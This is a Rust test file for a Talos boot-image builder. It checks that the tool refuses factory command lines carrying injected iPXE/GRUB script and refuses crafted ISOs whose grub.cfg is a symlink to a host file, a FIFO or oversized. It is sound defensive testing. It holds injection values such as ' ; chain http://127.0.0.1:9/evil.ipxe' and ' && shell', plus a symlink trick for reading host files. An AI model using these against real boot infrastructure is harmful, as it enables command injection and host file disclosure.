//! Boot media from hostile input (issue 28, "script injection through the
//! factory's command line" and "the build host's files through a crafted
//! base ISO"): a factory whose command line carries iPXE or GRUB script,
//! and base ISOs whose `grub.cfg` is a symlink to a host file, a FIFO, a
//! directory, 100 MB long, or whose UEFI boot is a UKI. Each case runs the
//! real binary and checks what tests/cli/hostile_input.rs checks: exit 1 or 2,
//! no panic or signal death, peak RSS under 64 MiB, an end within 10 s,
//! nothing written outside the folders given (TMPDIR included), and no raw
//! control character or host file content in the output. Every crafted
//! input is made here, by code. Talos v1.12.1 (GRUB ISOs), v1.11.2 (PXE).

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use crate::common;
use common::hostile::{self, Ran};
use common::inventory::{Inventory, Node};
use common::sims::Sim;

const LIMIT_TIME: Duration = Duration::from_secs(10);

/// What the host holds that no output may show.
const HOST_SECRET: &str = "HOSTFILE-MARKER-do-not-show";

/// A case (`tests/common/hostile.rs`) with `in` (crafted inputs), `out`,
/// `cache` and `tmp` (where imgbuild may write; `tmp` must end empty), and
/// `outside/host`, the host file a symlink points at.
struct Case(hostile::Case);

impl std::ops::Deref for Case {
    type Target = hostile::Case;
    fn deref(&self) -> &hostile::Case {
        &self.0
    }
}

impl Case {
    fn new() -> Case {
        let c = hostile::Case::new(&["in", "out", "cache", "tmp"]);
        c.write("outside/host", HOST_SECRET);
        Case(c)
    }

    /// Runs imgbuild measured, in `cwd`, HOME in `home`, TMPDIR in `tmp`.
    fn run(&self, args: &[&str]) -> Ran {
        self.0.run(args, LIMIT_TIME)
    }

    /// The bounds every run keeps; the host file never shown.
    fn bounded(&self, ran: &Ran) {
        self.0.bounded(ran, LIMIT_TIME);
        assert!(
            !ran.all().contains(HOST_SECRET),
            "a host file was shown: {}",
            ran.all()
        );
    }

    /// A refused input: exit 1 or 2 naming `names`, within the bounds.
    fn refused(&self, ran: &Ran, names: &str) {
        self.bounded(ran);
        self.0.refused(ran, &[1, 2], names, LIMIT_TIME);
    }

    /// Every file under `out`, relative, sorted.
    fn out_files(&self) -> Vec<String> {
        let mut found = Vec::new();
        let mut dirs = vec![self.path("out")];
        while let Some(d) = dirs.pop() {
            for e in std::fs::read_dir(&d).unwrap() {
                let e = e.unwrap();
                if e.file_type().unwrap().is_dir() {
                    dirs.push(e.path());
                }
                found.push(
                    e.path()
                        .strip_prefix(self.path("out"))
                        .unwrap()
                        .display()
                        .to_string(),
                );
            }
        }
        found.sort();
        found
    }
}

// ---- a factory that lies -------------------------------------------------

/// A factory in front of the factory simulator that answers as the real
/// one would, except that every command line it serves ends in `suffix`
/// and every ISO it serves is `iso` (when given). Requests go on to the
/// simulator with curl.
struct Hostile {
    url: String,
}

impl Hostile {
    fn start(sim: &Sim, suffix: &str, iso: Option<PathBuf>) -> Hostile {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let upstream = sim.url.clone();
        let suffix = suffix.to_owned();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(conn) = conn else { return };
                let (upstream, suffix, iso) = (upstream.clone(), suffix.clone(), iso.clone());
                std::thread::spawn(move || {
                    let _ = serve(conn, &upstream, &suffix, iso.as_deref());
                });
            }
        });
        Hostile { url }
    }
}

fn serve(
    conn: std::net::TcpStream,
    upstream: &str,
    suffix: &str,
    iso: Option<&Path>,
) -> std::io::Result<()> {
    let mut r = BufReader::new(conn.try_clone()?);
    let mut line = String::new();
    r.read_line(&mut line)?;
    let mut parts = line.split_whitespace();
    let (method, path) = (
        parts.next().unwrap_or("").to_owned(),
        parts.next().unwrap_or("").to_owned(),
    );
    let mut length = 0usize;
    let mut content_type = String::new();
    loop {
        let mut h = String::new();
        r.read_line(&mut h)?;
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':') {
            match k.to_ascii_lowercase().as_str() {
                "content-length" => length = v.trim().parse().unwrap_or(0),
                "content-type" => content_type = v.trim().to_owned(),
                _ => {}
            }
        }
    }
    let mut body = vec![0u8; length];
    r.read_exact(&mut body)?;
    let (code, ctype, mut answer) = match (iso, path.ends_with(".iso")) {
        (Some(iso), true) => (
            200,
            "application/x-iso9660-image".to_owned(),
            std::fs::read(iso)?,
        ),
        _ => {
            let tmp = tempfile::NamedTempFile::new()?;
            std::fs::write(tmp.path(), &body)?;
            let out = tempfile::NamedTempFile::new()?;
            let mut c = Command::new("curl");
            c.args(["-s", "-X", &method, "-o"])
                .arg(out.path())
                .args(["-w", "%{http_code} %{content_type}"]);
            if method == "POST" {
                c.arg("--data-binary")
                    .arg(format!("@{}", tmp.path().display()))
                    .args(["-H", &format!("Content-Type: {content_type}")]);
            }
            let o = c.arg(format!("{upstream}{path}")).output()?;
            let w = String::from_utf8_lossy(&o.stdout).into_owned();
            let (code, ctype) = w.split_once(' ').unwrap_or(("502", ""));
            (
                code.parse().unwrap_or(502),
                ctype.to_owned(),
                std::fs::read(out.path())?,
            )
        }
    };
    if path.contains("/cmdline-") && code == 200 {
        let text = String::from_utf8_lossy(&answer).trim_end().to_owned();
        answer = format!("{text}{suffix}").into_bytes();
    }
    let mut w = conn;
    write!(
        w,
        "HTTP/1.1 {code} X\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        answer.len()
    )?;
    w.write_all(&answer)
}

// ---- inputs --------------------------------------------------------------

/// Two metal nodes with MACs and static addresses, Talos `version`.
fn inventory(version: &str, format: &str) -> Inventory {
    let mut inv = Inventory::new("hostile")
        .talos(version)
        .endpoint("127.0.0.30")
        .metal(format)
        .bootloader("grub");
    for (i, (name, role)) in [("cp-01", "controlplane"), ("worker-01", "worker")]
        .iter()
        .enumerate()
    {
        inv = inv.node(
            Node::new(name, role)
                .address(&format!("127.0.0.{}", 31 + i))
                .mac(&format!("BC:24:11:00:00:{:02X}", 0x31 + i))
                .interface(),
        );
    }
    inv
}

/// An ISO in the factory's layout whose `/boot/grub/grub.cfg` is made by
/// `grub_cfg` (given the path it must create), with `extra` files
/// (ISO path, bytes).
fn crafted_iso(
    case: &Case,
    name: &str,
    grub_cfg: impl FnOnce(&Path),
    extra: &[(&str, &[u8])],
) -> PathBuf {
    let tree = case.path(&format!("in/{name}-tree"));
    std::fs::create_dir_all(tree.join("boot/grub")).unwrap();
    std::fs::write(tree.join("boot/vmlinuz"), b"kernel").unwrap();
    grub_cfg(&tree.join("boot/grub/grub.cfg"));
    for (path, bytes) in extra {
        let p = tree.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, bytes).unwrap();
    }
    let iso = case.path(&format!("in/{name}.iso"));
    let o = Command::new("xorriso")
        .args(["-as", "mkisofs", "-R", "-V", "TALOS", "-o"])
        .arg(&iso)
        .arg(&tree)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    std::fs::remove_dir_all(&tree).unwrap();
    iso
}

/// The factory's `grub.cfg` with `args` on both kernel lines.
fn factory_cfg(args: &str) -> String {
    format!(
        "set default=0\nset timeout=3\n\nmenuentry \"Talos ISO\" {{\n\tlinux /boot/vmlinuz {args}\n\tinitrd /boot/initramfs.xz\n}}\n\nmenuentry \"Reset Talos installation\" {{\n\tlinux /boot/vmlinuz {args} talos.experimental.wipe=system\n\tinitrd /boot/initramfs.xz\n}}\n"
    )
}

/// A minimal PE image with a `.cmdline` section holding `cmdline`: a UKI
/// as far as its section table goes (the PE/COFF layout: `MZ`, `e_lfanew`
/// at 0x3c, `PE\0\0`, the COFF header, 40-byte section headers).
fn uki(cmdline: &str) -> Vec<u8> {
    let mut b = vec![0u8; 0x400];
    b[..2].copy_from_slice(b"MZ");
    b[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    b[0x80..0x84].copy_from_slice(b"PE\0\0");
    b[0x86..0x88].copy_from_slice(&1u16.to_le_bytes());
    b[0x94..0x96].copy_from_slice(&0xf0u16.to_le_bytes());
    let h = 0x80 + 24 + 0xf0;
    b[h..h + 8].copy_from_slice(b".cmdline");
    b[h + 8..h + 12].copy_from_slice(&(cmdline.len() as u32).to_le_bytes());
    b[h + 16..h + 20].copy_from_slice(&0x200u32.to_le_bytes());
    b[h + 20..h + 24].copy_from_slice(&0x400u32.to_le_bytes());
    b.extend_from_slice(cmdline.as_bytes());
    b.resize(0x800, 0);
    b
}

fn build_args<'a>(case: &'a Case, config: &'a str, factory: &'a str, out: &'a str) -> Vec<String> {
    [
        "--config",
        config,
        "build",
        "--factory",
        factory,
        "--retries",
        "0",
        "--out-dir",
        out,
        "--cache-dir",
    ]
    .iter()
    .map(|s| s.to_string())
    .chain([case.s("cache"), "--quiet".to_owned()])
    .collect()
}

fn strs(v: &[String]) -> Vec<&str> {
    v.iter().map(String::as_str).collect()
}

// ---- cases ---------------------------------------------------------------

/// What iPXE would run or expand, or a second META, in the factory's
/// command line: `pxe` refuses it naming the node, and writes no script.
#[test]
fn a_factory_command_line_never_becomes_ipxe_script() {
    let sim = Sim::start(&[]);
    for suffix in [
        " ; chain http://127.0.0.1:9/evil.ipxe",
        " && shell",
        " || shell ||",
        " #",
        " ;",
        " ${net0/mac}",
        " talos.environment=INSTALLER_META_BASE64=AAAA",
        " a=\"b",
        " x\\",
    ] {
        let case = Case::new();
        let hostile = Hostile::start(&sim, suffix, None);
        let config = inventory("v1.11.2", "raw").write(&case.path("in"));
        let config = config.to_str().unwrap();
        let ran = case.run(&[
            "--config",
            config,
            "pxe",
            "--factory",
            &hostile.url,
            "--retries",
            "0",
            "--out-dir",
            &case.s("out/pxe"),
            "--cache-dir",
            &case.s("cache"),
            "--quiet",
        ]);
        case.refused(&ran, "factory's command line");
        assert!(ran.stderr.contains("cp-01"), "{suffix:?}: {}", ran.stderr);
        assert!(
            !case.out_files().iter().any(|f| f.ends_with(".ipxe")),
            "{suffix:?}: {:?}",
            case.out_files()
        );
    }
}

/// Script in a base ISO's kernel line: GRUB separators, variables and open
/// quotes are refused; a comment is dropped with META still the last word.
#[test]
fn a_base_iso_kernel_line_never_runs_commands_or_drops_meta() {
    let sim = Sim::start_with(&[], 0, &["--versions", "v1.12.1"]);
    for (args, refused) in [
        ("talos.platform=metal ; chain x", Some("grub.cfg line")),
        ("talos.platform=metal && shell", Some("grub.cfg line")),
        ("talos.platform=metal || shell ||", Some("grub.cfg line")),
        ("talos.platform=metal ${root}", Some("grub.cfg line")),
        ("talos.platform=metal a=\"b", Some("grub.cfg line")),
        (
            "talos.platform=metal talos.environment=INSTALLER_META_BASE64=AAAA",
            Some("already carries META"),
        ),
        ("talos.platform=metal # dropped", None),
    ] {
        let case = Case::new();
        let iso = crafted_iso(
            &case,
            "base",
            |p| std::fs::write(p, factory_cfg(args)).unwrap(),
            &[],
        );
        let hostile = Hostile::start(&sim, "", Some(iso));
        let config = inventory("v1.12.1", "iso").write(&case.path("in"));
        let a = build_args(
            &case,
            config.to_str().unwrap(),
            &hostile.url,
            &case.s("out"),
        );
        let ran = case.run(&strs(&a));
        if let Some(names) = refused {
            case.refused(&ran, names);
            assert!(!case.path("out/cp-01.iso").exists(), "{args:?}");
            continue;
        }
        case.bounded(&ran);
        assert_eq!(ran.code, Some(0), "{}", ran.stderr);
        let o = Command::new(env!("CARGO_BIN_EXE_imgbuild"))
            .args(["inspect", "--output", "json", &case.s("out/cp-01.iso")])
            .output()
            .unwrap();
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let entries = v["entries"].as_array().unwrap();
        assert_eq!(entries.len(), 2, "{v}");
        for e in entries {
            let args = e["args"].as_array().unwrap();
            let metas = args
                .iter()
                .filter(|a| a.as_str().unwrap().contains("INSTALLER_META_BASE64"))
                .count();
            assert_eq!(metas, 1, "{v}");
            assert!(
                args.last()
                    .unwrap()
                    .as_str()
                    .unwrap()
                    .contains("INSTALLER_META_BASE64")
            );
            assert_eq!(e["meta"][0]["key"], 10, "{v}");
        }
    }
}

/// What stands at `/boot/grub/grub.cfg` in a crafted tree.
type MakeCfg = dyn Fn(&Path, &Case);

/// `grub.cfg` as a symlink to a host file, a FIFO, a directory (holding
/// 20 MB) and a 100 MB file: `inspect`, `diff` and `build` refuse each
/// unread, show no host file, hang on none and leave nothing behind.
#[test]
fn a_crafted_base_iso_never_reaches_host_files_hangs_or_leaves_trees() {
    let sim = Sim::start_with(&[], 0, &["--versions", "v1.12.1"]);
    let kinds: [(&str, Box<MakeCfg>); 4] = [
        (
            "symlink",
            Box::new(|p: &Path, c: &Case| {
                std::os::unix::fs::symlink(c.path("outside/host"), p).unwrap()
            }),
        ),
        (
            "fifo",
            Box::new(|p: &Path, _: &Case| {
                let ok = Command::new("mkfifo").arg(p).status().unwrap();
                assert!(ok.success());
            }),
        ),
        (
            "directory",
            Box::new(|p: &Path, _: &Case| {
                std::fs::create_dir(p).unwrap();
                std::fs::write(p.join("big"), vec![7u8; 20 << 20]).unwrap();
            }),
        ),
        (
            "huge",
            Box::new(|p: &Path, _: &Case| {
                let mut text = factory_cfg("talos.platform=metal");
                text.push_str(&"#".repeat(100 << 20));
                std::fs::write(p, text).unwrap();
            }),
        ),
    ];
    for (kind, make) in kinds {
        let case = Case::new();
        let iso = crafted_iso(&case, kind, |p| make(p, &case), &[]);
        let iso_s = iso.to_str().unwrap().to_owned();
        let ran = case.run(&["inspect", &iso_s]);
        case.refused(&ran, "grub.cfg");
        let ran = case.run(&["diff", &iso_s, &iso_s]);
        case.refused(&ran, "grub.cfg");

        let hostile = Hostile::start(&sim, "", Some(iso.clone()));
        let config = inventory("v1.12.1", "iso").write(&case.path("in"));
        let a = build_args(
            &case,
            config.to_str().unwrap(),
            &hostile.url,
            &case.s("out"),
        );
        let ran = case.run(&strs(&a));
        case.refused(&ran, "grub.cfg");
        let files = case.out_files();
        assert!(
            files
                .iter()
                .all(|f| [".manifest.lock", "manifest.json", ".gitignore"].contains(&f.as_str())),
            "{kind}: left {files:?}"
        );
        // Bounded before: nothing of the 100 MB was read into memory, and
        // nothing under out, cache or tmp is a copy of it.
        let cached: u64 = std::fs::read_dir(case.path("cache"))
            .unwrap()
            .flatten()
            .filter(|e| e.path() != iso)
            .filter_map(|e| e.metadata().ok())
            .filter(|m| m.is_file())
            .map(|m| m.len())
            .sum();
        assert!(cached < 200 << 20, "{kind}: {cached}");
    }
}

/// A base ISO whose UEFI boot is a UKI: `build` refuses a per-node ISO
/// (it would boot UEFI machines without META), and `verify` fails a node
/// ISO that carries one without META, even with a matching manifest.
#[test]
fn an_iso_whose_uefi_boot_lacks_meta_is_never_made_and_fails_verify() {
    let sim = Sim::start_with(&[], 0, &["--versions", "v1.12.1"]);
    let case = Case::new();
    let cfg = factory_cfg("talos.platform=metal console=ttyS0");
    let with_uki = crafted_iso(
        &case,
        "uki",
        |p| std::fs::write(p, &cfg).unwrap(),
        &[(
            "EFI/BOOT/BOOTX64.EFI",
            &uki("talos.platform=metal console=ttyS0"),
        )],
    );
    let hostile = Hostile::start(&sim, "", Some(with_uki.clone()));
    let config = inventory("v1.12.1", "iso").write(&case.path("in"));
    let a = build_args(
        &case,
        config.to_str().unwrap(),
        &hostile.url,
        &case.s("out"),
    );
    let ran = case.run(&strs(&a));
    case.refused(&ran, "UKI");
    assert!(!case.path("out/cp-01.iso").exists());

    // A good build, then cp-01's ISO swapped for one whose grub.cfg has
    // META but whose UKI has none; the manifest made to match its bytes.
    let plain = crafted_iso(&case, "plain", |p| std::fs::write(p, &cfg).unwrap(), &[]);
    let good = Hostile::start(&sim, "", Some(plain));
    let a = build_args(&case, config.to_str().unwrap(), &good.url, &case.s("out"));
    let ran = case.run(&strs(&a));
    case.bounded(&ran);
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    let swapped = crafted_iso(
        &case,
        "swapped",
        |p| {
            std::fs::write(
                p,
                factory_cfg(
                    "talos.platform=metal talos.environment=INSTALLER_META_BASE64=MHhhPXg=",
                ),
            )
            .unwrap()
        },
        &[("EFI/BOOT/BOOTX64.EFI", &uki("talos.platform=metal"))],
    );
    let cp = case.path("out/cp-01.iso");
    std::fs::copy(&swapped, &cp).unwrap();
    let manifest = case.path("out/manifest.json");
    let mut m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&manifest).unwrap()).unwrap();
    let bytes = std::fs::read(&cp).unwrap();
    use sha2::Digest;
    m["images"]["cp-01"]["sha256"] = hex::encode(sha2::Sha256::digest(&bytes)).into();
    m["images"]["cp-01"]["size"] = bytes.len().into();
    std::fs::write(&manifest, serde_json::to_vec(&m).unwrap()).unwrap();
    let ran = case.run(&["verify", "--out-dir", &case.s("out")]);
    case.refused(&ran, "UKI");
}

/// Inventory kernel arguments that a script language would split, expand
/// or comment out: `validate` exits 2 naming the field.
#[test]
fn kernel_args_that_cannot_be_carried_fail_validate() {
    for (arg, field) in [
        ("'#'", "image.kernelArgs[0]"),
        ("';'", "image.kernelArgs[0]"),
        ("'${net0/mac}'", "image.kernelArgs[0]"),
        ("'a\"b'", "image.kernelArgs[0]"),
        (
            "'talos.environment=INSTALLER_META_BASE64=AA=='",
            "image.kernelArgs[0]",
        ),
    ] {
        let case = Case::new();
        let text = Inventory::loopback().text().replacen(
            "  format: raw\n",
            &format!("  format: raw\n  kernelArgs: [{arg}]\n"),
            1,
        );
        let config = case.path("in/cluster.yaml");
        std::fs::write(&config, text).unwrap();
        let ran = case.run(&["--config", config.to_str().unwrap(), "validate"]);
        case.refused(&ran, field);
        assert_eq!(ran.code, Some(2), "{arg}: {}", ran.stderr);
    }
}
